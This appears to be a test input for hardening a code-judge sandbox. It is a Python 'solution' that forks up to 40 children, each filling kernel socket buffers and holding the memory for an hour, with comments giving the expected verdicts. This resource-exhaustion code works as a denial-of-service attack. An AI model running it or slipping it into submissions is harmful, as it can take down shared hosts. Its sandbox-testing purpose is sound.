# attack: res_socket_buffers
# kind: function
# attempts: socket pairs with the largest buffers, filled, in every child
# sound verdict: incorrect|runtime_error|time_limit|memory_limit
# host must: the memory is counted or bounded, and freed
# NEVER run outside a sandbox.
import os, socket, time
def fill():
    kept = []
    try:
        while True:
            a, b = socket.socketpair(); kept += [a, b]
            for s in (a, b):
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30); s.setblocking(False)
                try:
                    while True: s.send(b"\1" * 65536)
                except BlockingIOError: pass
    except OSError: pass
    return kept
def solve(xs):
    for _ in range(40):
        try: pid = os.fork()
        except OSError: break
        if pid == 0: kept = fill(); time.sleep(3600)
    return None
